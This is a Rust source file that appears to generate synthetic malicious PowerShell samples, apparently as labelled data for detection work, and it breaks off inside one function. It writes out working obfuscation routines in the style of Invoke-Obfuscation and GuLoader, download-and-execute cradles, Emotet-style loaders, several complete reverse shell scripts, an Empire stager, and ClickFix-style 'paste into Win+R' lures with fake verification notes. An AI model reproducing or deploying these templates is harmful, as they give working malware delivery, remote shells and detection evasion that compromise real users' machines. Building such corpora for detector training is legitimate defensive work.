//! PowerShell: cradles, stagers of frameworks, loaders of mail campaigns and what pages tell
//! people to paste, under Invoke-Obfuscation, Chameleon and the strings of GuLoader.

use super::super::{
    Dice, Truth, base64, codes, deflate, each, gzip, hex, keyed, put, quoted, reversed, wide, xored,
};
use super::{
    agent, alphabet, bytes, camel, chunks, cipher, halves, letters, numbers, places, salad, sparse,
};

fn name(dice: &mut Dice) -> String {
    match dice.below(3) {
        0 => dice.name(),
        1 => salad(dice, 6).replace(|it: char| it.is_ascii_digit(), "k"),
        _ => camel(dice),
    }
}

/// Words of the language in a case of chance.
fn cased(dice: &mut Dice, text: &str) -> String {
    if dice.chance(60) {
        return text.to_owned();
    }
    text.chars()
        .map(|it| if dice.chance(50) { it.to_ascii_uppercase() } else { it.to_ascii_lowercase() })
        .collect()
}

/// A string of the language with accents grave that mean nothing.
fn ticked(dice: &mut Dice, text: &str) -> String {
    let mut out = "\"".to_owned();
    for (at, letter) in text.chars().enumerate() {
        if at > 0 && !"0abefnrtuvx".contains(letter) && dice.chance(35) {
            out.push('`');
        }
        out.push(letter);
    }
    out + "\""
}

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    match dice.below(21) {
        19 => {
            let (key, vector) = (bytes(dice, 16), bytes(dice, 16));
            let data = hex(&cipher::aes_cbc(&key, &vector, &wide(text)));
            let inner = format!("2|{}|{data}", base64(&vector));
            // What stands in front is how the format begins.
            format!(
                "([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR(('76492d1116743f0423413b16050a5345{}' | ConvertTo-SecureString -Key ({})))))",
                base64(&wide(&inner)),
                codes(key, ",")
            )
        }
        20 => {
            let mark = dice.pick(&["S", "x", "J", "-", "k"]);
            let list = each(text, mark, |it| format!("{it:x}"));
            format!(
                "(\"$(SEt-ItEM 'VaRIabLe:oFs' '')\"+[string]('{list}'.SPlIt('{mark}') | % {{ ([char][Convert]::ToInt16($_,16)) }})+\"$(Sv 'oFS' ' ')\")"
            )
        }
        0 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let said: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let form: String = (0..pieces.len())
                .filter_map(|at| order.iter().position(|it| *it == at))
                .map(|at| format!("{{{at}}}"))
                .collect();
            format!("(\"{form}\" -f {})", quoted(&said, '\'').join(","))
        }
        1 => {
            let list = codes(text.bytes(), ",");
            match dice.below(4) {
                0 => format!("([char[]]({list}) -join '')"),
                1 => format!("(-join [char[]]({list}))"),
                2 => format!("([string]::Join('', (({list}) | % {{ [char][int]$_ }})))"),
                _ => format!("(({list} | ForEach-Object {{ [char]$_ }}) -join \"\")"),
            }
        }
        2 => {
            let list: Vec<String> = text
                .bytes()
                .map(|it| match dice.below(3) {
                    0 => format!("[char]0x{it:02x}"),
                    1 => format!("[char]({}+{})", it - 20, 20),
                    _ => format!("[char]{it}"),
                })
                .collect();
            format!("({})", list.join("+"))
        }
        3 => {
            let (kind, data) = if dice.chance(50) {
                (dice.pick(&["UTF8", "ASCII"]), base64(text.as_bytes()))
            } else {
                ("Unicode", base64(&wide(text)))
            };
            let encoding = dice.pick(&["Text.Encoding", "System.Text.Encoding"]);
            let decode = dice.pick(&["Convert", "System.Convert"]);
            format!("([{encoding}]::{kind}.GetString([{decode}]::FromBase64String('{data}')))")
        }
        4 => {
            let turned = reversed(text);
            match dice.below(3) {
                0 => format!("(-join ('{turned}'[-1..-{}]))", text.len()),
                1 => format!(
                    "(([regex]::Matches('{turned}','.','RightToLeft') | ForEach {{$_.Value}}) -join '')"
                ),
                _ => {
                    let array = name(dice);
                    before.push_str(&format!(
                        "${array} = '{turned}'.ToCharArray()\n[array]::Reverse(${array})\n"
                    ));
                    format!("(-join ${array})")
                }
            }
        }
        5 => {
            let mark = dice.mark(text);
            let littered = dice.littered(text, &mark);
            match dice.below(3) {
                0 => format!("('{littered}'.Replace('{mark}',''))"),
                1 => format!("('{littered}' -creplace '{mark}','')"),
                _ => {
                    let list = each(&mark, "+", |it| format!("[char]{it}"));
                    format!("('{littered}'.Replace((''+{list}),[string]::Empty))")
                }
            }
        }
        6 => {
            let mark = dice.pick(&["L", "w", "Z", "_", "~", "}"]);
            let (list, base) = match dice.below(3) {
                0 => (each(text, mark, |it| format!("{it:x}")), 16),
                1 => (each(text, mark, |it| format!("{it:o}")), 8),
                _ => (each(text, mark, |it| format!("{it:b}")), 2),
            };
            if dice.chance(50) {
                format!(
                    "(-join ('{list}'.Split('{mark}') | % {{ [char]([Convert]::ToInt16($_,{base})) }}))"
                )
            } else {
                format!(
                    "(('{list}' -csplit '{mark}' | ForEach-Object {{ ([char][Convert]::ToInt32(([string]$_), {base})) }}) -join '')"
                )
            }
        }
        7 => {
            let (kind, data) = if dice.chance(50) {
                ("GzipStream", gzip(text.as_bytes()))
            } else {
                ("DeflateStream", deflate(text.as_bytes()))
            };
            format!(
                "((New-Object IO.StreamReader((New-Object IO.Compression.{kind}([IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
                base64(&data)
            )
        }
        8 => {
            let (table, all) = (name(dice), alphabet(dice, text, "abcdefghijklmnopqrstuvwxyz"));
            before.push_str(&format!("${table} = '{all}'\n"));
            let list = places(&all, text);
            if dice.chance(50) {
                format!("(${table}[{}] -join '')", numbers(&list, ","))
            } else {
                let list: Vec<String> = list.iter().map(|at| format!("${table}[{at}]")).collect();
                format!("({})", list.join("+"))
            }
        }
        9 => {
            let (function, step) = (name(dice), 3 + dice.below(5));
            before.push_str(&every(&function, step, dice));
            format!("({function} '{}')", sparse(dice, text, step))
        }
        10 => {
            let key = dice.key();
            let list = codes(xored(text, key), ",");
            match dice.below(2) {
                0 => format!("(-join ({list} | % {{ [char]($_ -bxor 0x{key:X}) }}))"),
                _ => format!("(({list} | ForEach {{ [char]($_ -bxor {key}) }}) -join '')"),
            }
        }
        11 => ticked(dice, text),
        12 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| name(dice)).collect();
            for at in dice.order(pieces.len()) {
                before.push_str(&format!("${} = '{}'\n", names[at], pieces[at]));
            }
            let said: String = names
                .iter()
                .map(|it| if dice.chance(50) { format!("${{{it}}}") } else { format!("$(${it})") })
                .collect();
            format!("\"{said}\"")
        }
        13 => match dice.below(2) {
            0 => format!(
                "([uri]::UnescapeDataString('{}'))",
                each(text, "", |it| format!("%{it:02x}"))
            ),
            _ => format!(
                "([System.Net.WebUtility]::HtmlDecode('{}'))",
                each(text, "", |it| format!("&#{it};"))
            ),
        },
        14 => {
            let (data, key, out) = (name(dice), name(dice), name(dice));
            let word = salad(dice, 8);
            before.push_str(&format!(
                "${data} = [Convert]::FromBase64String('{}')\n${key} = [Text.Encoding]::UTF8.GetBytes('{word}')\n${out} = for($i = 0; $i -lt ${data}.Length; $i++) {{ ${data}[$i] -bxor ${key}[$i % ${key}.Length] }}\n",
                base64(&keyed(text, &word))
            ));
            format!("([Text.Encoding]::UTF8.GetString(${out}))")
        }
        15 => {
            let (key, vector, own) = (bytes(dice, 32), bytes(dice, 16), name(dice));
            let data = base64(&cipher::aes_cbc(&key, &vector, text.as_bytes()));
            let function = camel(dice);
            before.push_str(&format!(
                "function {function}($d) {{\n    ${own} = [System.Security.Cryptography.Aes]::Create()\n    ${own}.Mode = [System.Security.Cryptography.CipherMode]::CBC\n    ${own}.Padding = [System.Security.Cryptography.PaddingMode]::PKCS7\n    ${own}.Key = [System.Convert]::FromBase64String('{}')\n    ${own}.IV = [System.Convert]::FromBase64String('{}')\n    $t = ${own}.CreateDecryptor()\n    $r = $t.TransformFinalBlock($d, 0, $d.Length)\n    $t.Dispose()\n    ${own}.Dispose()\n    return [System.Text.Encoding]::UTF8.GetString($r)\n}}\n",
                base64(&key),
                base64(&vector)
            ));
            format!("({function} ([System.Convert]::FromBase64String('{data}')))")
        }
        16 => {
            let data = name(dice);
            before.push_str(&format!("${data} = '{}'\n", hex(text.as_bytes())));
            match dice.below(2) {
                0 => format!(
                    "(-join (0..{} | % {{ [char][Convert]::ToByte(${data}.Substring($_*2,2),16) }}))",
                    text.len() - 1
                ),
                _ => format!(
                    "([Text.Encoding]::ASCII.GetString([byte[]]@(for($i=0;$i -lt ${data}.Length;$i+=2){{[Convert]::ToByte(${data}.Substring($i,2),16)}})))"
                ),
            }
        }
        17 => {
            let (table, pieces) = (name(dice), dice.pieces(text));
            let keys: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let list: Vec<String> = dice
                .order(pieces.len())
                .into_iter()
                .map(|at| format!("{} = '{}'", keys[at], pieces[at]))
                .collect();
            before.push_str(&format!("${table} = @{{ {} }}\n", list.join("; ")));
            let said: Vec<String> = keys
                .iter()
                .map(|it| {
                    if dice.chance(50) {
                        format!("${table}.{it}")
                    } else {
                        format!("${table}['{it}']")
                    }
                })
                .collect();
            format!("({})", said.join(" + "))
        }
        _ => {
            let by = 1 + dice.below(2) as u8;
            let moved: String = text.bytes().map(|it| char::from(it + by)).collect();
            format!("(-join ('{moved}'.ToCharArray() | % {{ [char]([int]$_ - {by}) }}))")
        }
    }
}

/// A function that takes every so manieth letter, as GuLoader has it.
fn every(function: &str, step: usize, dice: &mut Dice) -> String {
    let (text, out, at) = (name(dice), name(dice), dice.name());
    format!(
        "function {function} (${text}) {{\n    ${out} = ''\n    for (${at} = {}; ${at} -lt ${text}.Length; ${at} += {step}) {{ ${out} += ${text}.Substring(${at}, 1) }}\n    ${out}\n}}\n",
        step - 1
    )
}

fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, word)
}

/// An expression whose value is what lies at a URL.
fn fetched(dice: &mut Dice, url: &str) -> String {
    let client = cased(dice, "Net.WebClient");
    let make = cased(dice, "New-Object");
    match dice.below(13) {
        0 => format!("({make} {client}).DownloadString({url})"),
        1 => format!("({make} System.{client}).('Down'+'load'+'String').Invoke({url})"),
        2 => format!("(&('new-ob'+'ject') ('Net.We'+'bClient')).DownloadString({url})"),
        3 => format!("(Invoke-WebRequest -UseBasicParsing -Uri {url}).Content"),
        4 => format!("({} {url} -useb).Content", dice.pick(&["iwr", "curl", "wget"])),
        5 => format!("({} {url})", dice.pick(&["irm", "Invoke-RestMethod -Uri"])),
        6 => format!("[Net.WebClient]::new().DownloadString({url})"),
        7 => format!("({make} {client}).{}({url})", ticked(dice, "DownloadString")),
        8 => format!(
            "[IO.StreamReader]::new([Net.WebRequest]::Create({url}).GetResponse().GetResponseStream()).ReadToEnd()"
        ),
        9 => format!("[Text.Encoding]::UTF8.GetString(({make} {client}).DownloadData({url}))"),
        10 => format!("({make} IO.StreamReader(({make} {client}).OpenRead({url}))).ReadToEnd()"),
        11 => format!(
            "({make} {client} | % {{ $_.(($_ | gm | ? {{ $_.Name -clike 'D*g' }}).Name).Invoke({url}) }})"
        ),
        _ => format!("({make} ('{{1}}{{0}}' -f 'WebClient','Net.')).DownloadString({url})"),
    }
}

/// A line that runs a text.
fn run(dice: &mut Dice, text: &str) -> String {
    let command = cased(dice, "Invoke-Expression");
    match dice.below(12) {
        0 => format!("IEX ({text})"),
        1 => format!("{text} | iex"),
        2 => format!("& ($env:ComSpec[4,24,25]-join'') ({text})"),
        3 => format!("&($ShellId[1]+$ShellId[13]+'x') ({text})"),
        4 => format!(".($PSHOME[4]+$PSHOME[30]+'x') ({text})"),
        5 => format!("&((gv '*mdr*').Name[3,11,2]-join'') ({text})"),
        6 => format!("[ScriptBlock]::Create(({text})).Invoke()"),
        7 => format!("$ExecutionContext.InvokeCommand.InvokeScript(({text}))"),
        8 => format!("{command} ({text})"),
        9 => {
            let alias = dice.name();
            format!("sal {alias} iex;{alias} ({text})")
        }
        10 => format!("&('i'+'e'+'x') ({text})"),
        _ => format!("({text}) | & {}", ticked(dice, "IEX")),
    }
}

/// How another shell is started.
fn shell(dice: &mut Dice) -> String {
    let program = dice.pick(&["powershell", "powershell.exe", "POWERSHELL.EXE"]);
    let options = [
        dice.pick(&["-NoP", "-noprofile"]),
        "-NonI",
        dice.pick(&["-W Hidden", "-w 1", "-WindowStyle Hidden"]),
        dice.pick(&["-Exec Bypass", "-ep bypass", "-ExecutionPolicy Unrestricted"]),
        "-sta",
    ];
    let mut out = program.to_owned();
    for at in dice.order(options.len()).into_iter().take(1 + dice.below(3)) {
        out.push_str(&format!(" {}", cased(dice, options[at])));
    }
    out
}

/// The whole script as data that is run.
fn wrapped(dice: &mut Dice, script: &str) -> String {
    match dice.below(7) {
        0 => format!(
            "{} {} {}\n",
            shell(dice),
            dice.pick(&["-enc", "-e", "-EncodedCommand", "-ec", "-eNco"]),
            base64(&wide(script))
        ),
        1 => {
            let name = name(dice);
            format!(
                "${name}=New-Object IO.MemoryStream(,[Convert]::FromBase64String(\"{}\"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream(${name},[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();\n",
                base64(&gzip(script.as_bytes()))
            )
        }
        2 => {
            let text = format!(
                "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{}'))",
                base64(script.as_bytes())
            );
            run(dice, &text) + "\n"
        }
        3 => {
            let key = dice.key();
            let list = codes(script.bytes().map(|it| it ^ key), ",");
            let text = format!("-join (({list}) | % {{ [char]($_ -bxor {key}) }})");
            run(dice, &format!("({text})")) + "\n"
        }
        4 => {
            let text = format!(
                "(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()",
                base64(&deflate(script.as_bytes()))
            );
            run(dice, &text) + "\n"
        }
        5 => {
            let (name, out) = (name(dice), name(dice));
            let lines = chunks(&reversed(&base64(&wide(script))), 70);
            let mut text = format!("${name} = ''\n");
            for line in lines {
                text.push_str(&format!("${name} += '{line}'\n"));
            }
            text + &format!(
                "${out} = ${name}.ToCharArray()\n[array]::Reverse(${out})\niex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(-join ${out})))\n"
            )
        }
        _ => {
            let (key, vector) = (bytes(dice, 32), bytes(dice, 16));
            let data = base64(&cipher::aes_cbc(&key, &vector, &gzip(script.as_bytes())));
            let own = camel(dice);
            put(
                "$@A@ = [System.Security.Cryptography.Aes]::Create()\n$@A@.Mode = [System.Security.Cryptography.CipherMode]::CBC\n$@A@.Padding = [System.Security.Cryptography.PaddingMode]::PKCS7\n$@A@.Key = [Convert]::FromBase64String('@KEY@')\n$@A@.IV = [Convert]::FromBase64String('@IV@')\n$bytes = [Convert]::FromBase64String('@DATA@')\n$plain = $@A@.CreateDecryptor().TransformFinalBlock($bytes, 0, $bytes.Length)\n$in = New-Object System.IO.MemoryStream(,$plain)\n$out = New-Object System.IO.MemoryStream\n$zip = New-Object System.IO.Compression.GZipStream($in, [IO.Compression.CompressionMode]::Decompress)\n$zip.CopyTo($out)\n$zip.Dispose()\nInvoke-Expression ([System.Text.Encoding]::UTF8.GetString($out.ToArray()))\n",
                &[("A", &own), ("KEY", &base64(&key)), ("IV", &base64(&vector)), ("DATA", &data)],
            )
        }
    }
}

/// What means nothing, or what a victim passes.
fn junk(dice: &mut Dice) -> String {
    let mut out = String::new();
    for _ in 0..super::much(dice) {
        let (one, two) = (name(dice), camel(dice));
        out.push_str(&match dice.below(7) {
            0 => format!("${one} = {} + {}\n", dice.below(900), dice.below(900)),
            1 => format!("# {two} {}\n", letters(dice, 14)),
            2 => "$ErrorActionPreference = 'SilentlyContinue'\n".to_owned(),
            3 => "$ProgressPreference = 'SilentlyContinue'\n".to_owned(),
            4 => {
                "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\n"
                    .to_owned()
            }
            5 => format!("Start-Sleep -Milliseconds {}\n", dice.below(900)),
            _ => format!("function {two} {{ param($a) return $a * {} }}\n", dice.below(40)),
        });
    }
    out
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = plain(dice, truth);
    if dice.chance(35) {
        script = junk(dice) + &script;
    }
    if dice.chance(30) { wrapped(dice, &script) } else { script }
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(15) {
        0 => {
            let url = truth.url(dice, &["", ".ps1", ".txt", "/a", ".php?id=9f", "?k=a1"]);
            let (before, word) = hidden(dice, &url);
            let text = fetched(dice, &word);
            before + &run(dice, &text) + "\n"
        }
        1 => mail_loader(dice, truth),
        2 => file(dice, truth),
        3 => reverse_shell(dice, truth),
        4 => web_delivery(dice, truth),
        5 => empire(dice, truth),
        6 => pasted(dice, truth),
        7 => picture(dice, truth),
        8 => objects(dice, truth),
        9 => task(dice, truth),
        10 => guloader(dice, truth),
        11 => compiled(dice, truth),
        12 => archive(dice, truth),
        13 => client(dice, truth),
        _ => parted(dice, truth),
    }
}

/// Emotet's: a list in one string, the first that is large enough is started.
fn mail_loader(dice: &mut Dice, truth: &mut Truth) -> String {
    let urls: Vec<String> =
        (0..3 + dice.below(4)).map(|_| truth.url(dice, &["", "/", ".exe"])).collect();
    let mark = dice.pick(&["@", "*", "|", "!"]);
    let list = urls.join(mark);
    let (before, word) = match dice.below(3) {
        0 => (String::new(), format!("'{list}'")),
        1 => {
            let torn = list.replace("http", "]x1[s");
            (
                String::new(),
                format!("('{torn}'.Replace(']x1[s',([array]('sd','sw'),'http','3d')[1]))"),
            )
        }
        _ => {
            let (mut before, mut words) = (String::new(), Vec::new());
            for piece in chunks(&list, 25 + dice.below(20)) {
                words.push(if dice.chance(30) {
                    hide(dice, &piece, &mut before)
                } else {
                    quoted(&dice.pieces(&piece), '\'').join("+")
                });
            }
            (before, format!("({})", words.join("+")))
        }
    };
    put(
        "@BEFORE@$@A@='@JUNK@';$@FILE@ = '@NUMBER@';$@B@='@JUNK@';$@PATH@=$env:userprofile+'\\'+$@FILE@+'.exe';$@C@='@JUNK@';$@CLIENT@=&('n'+'ew-'+'object') nEt.WeBcLIeNt;$@URLS@=@LIST@.Split('@MARK@');$@D@='@JUNK@';foreach($@URL@ in $@URLS@){try{$@CLIENT@.@LOAD@($@URL@, $@PATH@);$@A@='@JUNK@';If ((&('Ge'+'t-I'+'tem') $@PATH@).LENGTH -ge @SIZE@) {@START@($@PATH@);$@B@='@JUNK@';break;}}catch{}}$@C@='@JUNK@'\n",
        &[
            ("BEFORE", &before),
            ("LIST", &word),
            ("MARK", mark),
            ("A", &dice.name()),
            ("B", &dice.name()),
            ("C", &dice.name()),
            ("D", &dice.name()),
            ("FILE", &dice.name()),
            ("PATH", &dice.name()),
            ("CLIENT", &dice.name()),
            ("URLS", &dice.name()),
            ("URL", &dice.name()),
            ("JUNK", &letters(dice, 8)),
            ("NUMBER", &dice.below(1000).to_string()),
            ("SIZE", &(20_000 + dice.below(20_000)).to_string()),
            (
                "LOAD",
                dice.pick(&[
                    "DownloadFile",
                    "\"d`OWN`lOadf`ile\"",
                    "('Down'+'load'+'File').Invoke",
                ]),
            ),
            (
                "START",
                dice.pick(&["[Diagnostics.Process]::Start", "Invoke-Item ", "Start-Process "]),
            ),
        ],
    )
}

fn file(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", ".dll", "", ".zip", ".msi"]);
    let (before, word) = hidden(dice, &url);
    let (path, name) = (name(dice), dice.name());
    let place = dice.pick(&["$env:TEMP", "$env:APPDATA", "$env:PUBLIC", "$env:LOCALAPPDATA"]);
    let load = match dice.below(8) {
        0 => format!("(New-Object Net.WebClient).DownloadFile({word}, ${path})"),
        1 => format!("Invoke-WebRequest -Uri {word} -OutFile ${path}"),
        2 => format!("iwr {word} -o ${path} -UserAgent '{}'", agent(dice)),
        3 => format!("Start-BitsTransfer -Source {word} -Destination ${path}"),
        4 => format!(
            "[IO.File]::WriteAllBytes(${path}, (New-Object System.Net.WebClient).DownloadData({word}))"
        ),
        5 => format!("& certutil.exe -urlcache -split -f {word} ${path} | Out-Null"),
        6 => format!("curl.exe -s -L -o ${path} {word}"),
        _ => format!(
            "Import-Module BitsTransfer; Start-BitsTransfer {word} ${path} -Priority Foreground"
        ),
    };
    let start = match dice.below(5) {
        0 => format!("Start-Process ${path}"),
        1 => format!("Start-Process -FilePath ${path} -WindowStyle Hidden"),
        2 => format!("& ${path}"),
        3 => format!("Invoke-Item ${path}"),
        _ => format!("(New-Object -ComObject WScript.Shell).Run(${path}, 0)"),
    };
    format!("{before}${path} = Join-Path {place} '{name}.exe'\n{load}\n{start}\n")
}

fn reverse_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let (client, stream) = (name(dice), name(dice));
    let port = if dice.chance(30) { format!("(0x{port:X})") } else { port.to_string() };
    match dice.below(4) {
        0 => put(
            "@BEFORE@$@C@ = New-Object System.Net.Sockets.TCPClient(@HOST@,@PORT@);$@S@ = $@C@.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $@S@.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$@S@.Write($sendbyte,0,$sendbyte.Length);$@S@.Flush()};$@C@.Close()\n",
            &[
                ("BEFORE", &before),
                ("HOST", &word),
                ("PORT", &port),
                ("C", &client),
                ("S", &stream),
            ],
        ),
        1 => put(
            "@BEFORE@$LHOST = @HOST@; $LPORT = @PORT@; $@C@ = New-Object Net.Sockets.TCPClient($LHOST, $LPORT); $@S@ = $@C@.GetStream(); $StreamReader = New-Object IO.StreamReader($@S@); $StreamWriter = New-Object IO.StreamWriter($@S@); $StreamWriter.AutoFlush = $true; $Buffer = New-Object System.Byte[] 1024; while ($@C@.Connected) { while ($@S@.DataAvailable) { $RawData = $@S@.Read($Buffer, 0, $Buffer.Length); $Code = ([text.encoding]::UTF8).GetString($Buffer, 0, $RawData -1) }; if ($@C@.Connected -and $Code.Length -gt 1) { $Output = try { Invoke-Expression ($Code) 2>&1 } catch { $_ }; $StreamWriter.Write(\"$Output`n\"); $Code = $null } }; $@C@.Close()\n",
            &[
                ("BEFORE", &before),
                ("HOST", &word),
                ("PORT", &port),
                ("C", &client),
                ("S", &stream),
            ],
        ),
        2 => put(
            "@BEFORE@$h = @HOST@\n$@C@ = [Net.Sockets.TcpClient]::new()\n$@C@.Connect($h, @PORT@)\n$@S@ = [System.Net.Security.SslStream]::new($@C@.GetStream(), $false, { $true })\n$@S@.AuthenticateAsClient($h)\n$w = [IO.StreamWriter]::new($@S@)\n$r = [IO.StreamReader]::new($@S@)\nwhile ($line = $r.ReadLine()) {\n    $w.WriteLine((& ([ScriptBlock]::Create($line)) | Out-String))\n    $w.Flush()\n}\n",
            &[
                ("BEFORE", &before),
                ("HOST", &word),
                ("PORT", &port),
                ("C", &client),
                ("S", &stream),
            ],
        ),
        _ => put(
            "@BEFORE@function Invoke-@C@ {\n    [CmdletBinding()]\n    param(\n        [Parameter(Position = 0)] [String] $IPAddress,\n        [Parameter(Position = 1)] [Int] $Port\n    )\n    try {\n        $client = New-Object System.Net.Sockets.TCPClient($IPAddress,$Port)\n        $stream = $client.GetStream()\n        [byte[]]$bytes = 0..65535|%{0}\n        $sendbytes = ([text.encoding]::ASCII).GetBytes(\"Windows PowerShell running as user \" + $env:username + \" on \" + $env:computername + \"`n\")\n        $stream.Write($sendbytes,0,$sendbytes.Length)\n        while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) {\n            $text = (New-Object Text.ASCIIEncoding).GetString($bytes,0,$i)\n            $back = ([text.encoding]::ASCII).GetBytes((Invoke-Expression -Command $text 2>&1 | Out-String))\n            $stream.Write($back,0,$back.Length)\n        }\n        $client.Close()\n    } catch {\n        Write-Warning 'Something went wrong!'\n    }\n}\n\nInvoke-@C@ -IPAddress @HOST@ -Port @PORT@\n",
            &[("BEFORE", &before), ("HOST", &word), ("PORT", &port), ("C", &client)],
        ),
    }
}

fn web_delivery(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = format!("http://{}:{}/{}", dice.host(), dice.port(), salad(dice, 11));
    truth.urls.insert(url.clone());
    let (before, word) = hidden(dice, &url);
    let name = dice.name();
    match dice.below(3) {
        0 => format!(
            "{before}[System.Net.ServicePointManager]::ServerCertificateValidationCallback={{$true}};${name}=new-object net.webclient;if([System.Net.WebProxy]::GetDefaultProxy().address -ne $null){{${name}.proxy=[Net.WebRequest]::GetSystemWebProxy();${name}.Proxy.Credentials=[Net.CredentialCache]::DefaultCredentials;}};IEX ((new-object Net.WebClient).DownloadString({word}));\n"
        ),
        1 => format!(
            "{before}${name}=New-Object Net.WebClient;${name}.Headers.Add('User-Agent','{}');${name}.Proxy=[Net.WebRequest]::DefaultWebProxy;${name}.Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;.('I'+'EX') ${name}.DownloadString({word})\n",
            agent(dice)
        ),
        _ => {
            let inner = format!("IEX ((new-object net.webclient).downloadstring('{url}'))");
            format!(
                "$s={};$p=New-Object System.Diagnostics.ProcessStartInfo;$p.FileName='powershell.exe';$p.Arguments='-nop -w hidden -encodedcommand '+$s;$p.UseShellExecute=$false;$p.CreateNoWindow=$true;[System.Diagnostics.Process]::Start($p)\n",
                format_args!("'{}'", base64(&wide(&inner)))
            )
        }
    }
}

fn empire(dice: &mut Dice, truth: &mut Truth) -> String {
    let page = dice.pick(&["/admin/get.php", "/news.php", "/login/process.php"]);
    let server = format!("{}://{}:{}", dice.pick(&["http", "https"]), dice.host(), dice.port());
    truth.urls.insert(format!("{server}{page}"));
    let (before, word) = if dice.chance(60) {
        (
            String::new(),
            format!(
                "$([TEXT.ENCODING]::UNICODE.GETSTRING([CONVERT]::FROMBASE64STRING('{}')))",
                base64(&wide(&server))
            ),
        )
    } else {
        hidden(dice, &server)
    };
    let (client, key) = (salad(dice, 2).to_uppercase(), salad(dice, 32));
    let client = format!("w{client}");
    put(
        "@BEFORE@If($PSVErsionTABLE.PSVErSION.MaJoR -gE 3){$ProgressPreference='SilentlyContinue'};[SYsTem.Net.SErviCePoInTMAnagER]::EXpect100COntInue=0;$@WC@=NEw-ObJeCT SysTEM.NET.WEbCLIenT;$u='@AGENT@';$ser=@SERVER@;$t='@PAGE@';$@WC@.HEadErs.ADD('User-Agent',$u);$@WC@.ProXY=[SYStEm.NEt.WEbREqUEsT]::DEFaulTWEbPrOxy;$K=[SYsTEm.TExT.EncodInG]::ASCII.GeTBYTEs('@KEY@');$R={$D,$K=$ARgS;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.CounT])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxOr$S[($S[$I]+$S[$H])%256]}};$@WC@.HEADERs.ADD(\"Cookie\",\"session=@COOKIE@=\");$DATA=$@WC@.DOWNLoADDATA($ser+$t);$iv=$Data[0..3];$dATA=$DATA[4..$DatA.lEnGth];-JOIn[ChAR[]](& $R $dATa ($IV+$K))|IEX\n",
        &[
            ("BEFORE", &before),
            ("SERVER", &word),
            ("PAGE", page),
            ("AGENT", agent(dice)),
            ("WC", &client),
            ("KEY", &key),
            ("COOKIE", &salad(dice, 27)),
        ],
    )
}

/// What a page tells people to paste into the window behind Win+R.
fn pasted(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let path = format!("/{}", dice.name());
    let bare = dice.chance(40);
    let url = if bare {
        format!("http://{host}{path}")
    } else {
        format!("{}://{host}{path}", dice.pick(&["http", "https"]))
    };
    truth.urls.insert(url.clone());
    let said = if bare { format!("{host}{path}") } else { url.clone() };
    let number = dice.below(900_000) + 100_000;
    let note = match dice.below(3) {
        0 => format!(" # \"I am not a robot - reCAPTCHA Verification ID: {number}\""),
        1 => format!(" # Cloudflare Verification Hash: {number}"),
        _ => String::new(),
    };
    match dice.below(7) {
        0 => format!("{} -c \"iex(irm {said})\"{note}\n", shell(dice)),
        1 => format!("$r='{said}';iwr $r -useb|iex{note}\n"),
        2 => format!("{} -Command \"&{{irm '{said}' | iex}}\"{note}\n", shell(dice)),
        3 => format!("mshta {url}{note}\n"),
        4 => {
            let (host, path) = halves(&url);
            format!(
                "$a='{host}';$b='{path}';$c=$a+$b;[ScriptBlock]::Create((irm $c)).Invoke(){note}\n"
            )
        }
        5 => {
            let mark = dice.mark(&url);
            let littered = dice.littered(&url, &mark);
            format!(
                "$u='{littered}'.Replace('{mark}','');iex (New-Object Net.WebClient).DownloadString($u){note}\n"
            )
        }
        _ => format!(
            "$p='{url}';$i=(Invoke-WebRequest -Uri $p -UseBasicParsing).Content;Invoke-Expression $i{note}\n"
        ),
    }
}

/// Code behind a picture.
fn picture(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".jpg", ".png", "/new_image.jpg"]);
    let (before, word) = hidden(dice, &url);
    put(
